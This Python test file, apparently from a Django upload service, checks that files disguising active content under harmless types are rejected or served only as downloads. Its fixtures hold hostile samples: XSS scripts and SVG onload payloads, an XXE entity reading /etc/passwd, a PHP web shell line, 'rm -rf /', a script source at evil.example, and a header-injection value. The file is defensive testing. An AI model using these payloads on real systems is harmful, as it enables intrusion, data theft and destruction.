"""Content in disguise: what a browser might run, under a name that it does not fear."""

from __future__ import annotations

import io
import zipfile
from typing import TYPE_CHECKING

from tests.attacks.people import Person, assert_problem, declaration
from tests.support.stages import case
from uploads.conf import ACTIVE_CONTENT_TYPES
from uploads.states import State

if TYPE_CHECKING:
    from pytest_django import Settings

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00\x00\x00\x01" * 2 + bytes(9)


def archive(name: str, content: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        file.writestr(name, content)
    return packed.getvalue()


DISGUISES = {
    "html as text": (HTML, "text/plain"),
    "html as json": (HTML, "application/json"),
    "html as pdf": (HTML, "application/pdf"),
    "html as png": (HTML, "image/png"),
    "html as a font": (HTML, "font/woff2"),
    "html in capitals": (HTML.upper(), "text/plain"),
    "html behind a byte order mark": (b"\xef\xbb\xbf" + HTML, "text/plain"),
    "html in UTF-16": (HTML.decode().encode("utf-16"), "text/plain"),
    "html in big-endian UTF-16": (
        b"\xfe\xff" + HTML.decode().encode("utf-16-be"),
        "text/plain",
    ),
    "html behind spaces": (b" \r\n\t\x0c" * 200 + HTML, "text/plain"),
    "html behind a comment": (b"<!-- " + b"x" * 500 + b" -->" + SCRIPT, "text/csv"),
    "script with a slash": (b"<script/src=//evil.example>", "text/plain"),
    "iframe alone": (b"<iframe srcdoc='x'>", "image/gif"),
    "meta refresh": (b"<meta http-equiv=refresh content=0>", "text/plain"),
    "html application": (
        b"<html><hta:application><script>x</script></html>",
        "text/plain",
    ),
    "xhtml as text": (
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>',
        "text/plain",
    ),
    "entities": (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>',
        "text/plain",
    ),
    "a doctype alone": (b'<!DOCTYPE svg SYSTEM "x"><svg/>', "image/jpeg"),
    "a style sheet that runs": (
        b'<?xml-stylesheet href="evil.xsl"?><a/>',
        "text/plain",
    ),
    "svg as png": (SVG, "image/png"),
    "svg as text": (SVG, "text/plain"),
    "svg with a slash": (b"<svg/onload=alert(1)>", "image/webp"),
    "svg under another prefix": (
        b'<s:svg xmlns:s="http://www.w3.org/2000/svg"/>',
        "image/png",
    ),
    "svg in UTF-16": (SVG.decode().encode("utf-16"), "image/gif"),
    "a script that begins like a GIF": (b"GIF89a/*x*/=1;alert(1)//", "image/gif"),
    "a page that begins like a bitmap": (b"BM<script>alert(1)</script>", "image/bmp"),
    "words as an image": (b"not an image", "image/webp"),
    "a windows program as a picture": (b"MZ\x90\x00" + bytes(60), "image/png"),
    "a windows program as a document": (
        b"MZ\x90\x00" + bytes(60),
        "application/msword",
    ),
    "a linux program as a film": (b"\x7fELF\x02\x01" + bytes(10), "video/mp4"),
    "a java program as an archive": (
        b"\xca\xfe\xba\xbe\x00\x00\x004",
        "application/zip",
    ),
    "an archive as text": (archive("a", b"b"), "text/plain"),
    "an archive as a picture": (archive("a.html", HTML), "image/png"),
    "a shortcut as a document": (
        b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
        "application/pdf",
    ),
    "a shell script as a picture": (b"#!/bin/sh\nrm -rf /\n", "image/jpeg"),
    "php in a picture": (b"<?php system($_GET[0]); ?>", "image/jpeg"),
    "a pdf as a picture": (b"%PDF-1.7\n", "image/png"),
    "a picture as a pdf": (PNG, "application/pdf"),
    "page in a GIF": (GIF + SCRIPT, "image/gif"),
    "page in a PNG": (PNG + HTML, "image/png"),
}


def test_content_in_disguise_is_rejected_and_gone(alice: Person) -> None:
    # The declared type is what the download says: it must not be a lie.
    for name, (content, content_type) in DISGUISES.items():
        with case(name):
            started = alice.upload(content, content_type=content_type, filename="evil")
            assert started.row.state == State.REJECTED
            answer = alice.call("GET", f"/uploads/{started.id}/download")
            assert_problem(answer, 409, "invalid_state")
            assert alice.call("GET", "/me").json()["quota"]["used_bytes"] == 0


HARMLESS_AS_A_DOWNLOAD = {
    "page as bytes": (HTML, "application/octet-stream", "evil.html"),
    "script as bytes": (SVG, "application/octet-stream", "evil.svg"),
    "UTF-7": (b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/plain", "evil.txt"),
    "UTF-16 without a mark": (
        HTML.decode().encode("utf-16-le"),
        "text/plain",
        "evil.txt",
    ),
    "mhtml": (
        b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n",
        "text/plain",
        "evil.txt",
    ),
    "page behind a long run of spaces": (b" " * 5000 + HTML, "text/plain", "evil"),
    "page behind a word": (b"hello " + SCRIPT, "text/plain", "evil.csv"),
    "page far back in a GIF": (GIF + bytes(5000) + SCRIPT, "image/gif", "evil.gif"),
    "page far back in a PNG": (PNG + bytes(5000) + HTML, "image/png", "evil.png"),
    "a Java archive": (
        archive("META-INF/MANIFEST.MF", b"x"),
        "application/java-archive",
        "evil.jar",
    ),
    "an empty page": (b"", "image/png", "evil.html"),
    "a PDF with a script": (
        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        "application/pdf",
        "evil.pdf",
    ),
}


def test_what_passes_is_only_ever_a_download_or_a_picture(alice: Person) -> None:
    # No table of signatures is complete: the answer's headers are the last wall.
    for name, (content, content_type, filename) in HARMLESS_AS_A_DOWNLOAD.items():
        with case(name):
            started = alice.upload(
                content, content_type=content_type, filename=filename
            )
            assert started.row.state == State.READY
            is_picture = content_type in {"image/gif", "image/png"} and content
        for query in ("", "?inline=1"):
            with case(name, query):
                answer = alice.download(started, query)
                assert answer.status == 200
                assert answer.headers["Content-Type"] == content_type
                shown = bool(is_picture and query)
                assert answer.headers["Content-Disposition"].startswith(
                    "inline;" if shown else "attachment;"
                )
                assert answer.headers["Cache-Control"] == "private"


def test_no_wildcard_admits_a_type_that_browsers_run(alice: Person) -> None:
    # A policy of */* is what everybody sets first.
    assert {"text/html", "image/svg+xml", "text/javascript"} <= ACTIVE_CONTENT_TYPES
    for content_type in sorted(ACTIVE_CONTENT_TYPES):
        with case(content_type):
            body = declaration(b"x", content_type=content_type)
            answer = alice.call("POST", "/uploads", body)
            assert_problem(answer, 415, "content_type_not_allowed")


def test_a_type_that_is_not_one_plain_type_is_refused(alice: Person) -> None:
    # It is signed into a header, and two readers must not read it in two ways.
    for content_type in (
        "",
        "*/*",
        "image/*",
        "text/HTML",
        "TEXT/html",
        "text/html;x=image/png",
        "text/html ",
        "text/plain\n",
        "text/plain\r\nX-Evil: 1",
        "image/png, text/html",
        "text//html",
        "text",
        "a/" + "b" * 64,
        "text/plain\x00",
        "t\u0435xt/html",  # the second letter is Cyrillic
        ["text/plain"],
        None,
    ):
        with case(content_type):
            body = declaration(b"x", content_type=content_type)
            assert_problem(alice.call("POST", "/uploads", body), 422, "invalid_request")


def test_a_type_that_the_policy_names_is_still_a_download(
    alice: Person, settings: Settings
) -> None:
    # An operator may allow pages: not even then is one ever opened.
    settings.UPLOADS = {**settings.UPLOADS, "ALLOWED_CONTENT_TYPES": ["text/html"]}
    started = alice.upload(HTML, content_type="text/html", filename="page.html")

    for query in ("", "?inline=1"):
        disposition = alice.download(started, query).headers["Content-Disposition"]
        assert disposition.startswith("attachment;")


def test_what_cannot_be_shown_is_written_down_as_a_download(alice: Person) -> None:
    # With inline=1 a whole file was fetched, and the trail said that it was previewed.
    started = alice.upload()

    alice.download(started, "?inline=1")

    kinds = list(started.row.events.order_by("pk").values_list("kind", flat=True))
    assert kinds[-1] == "upload.downloaded"
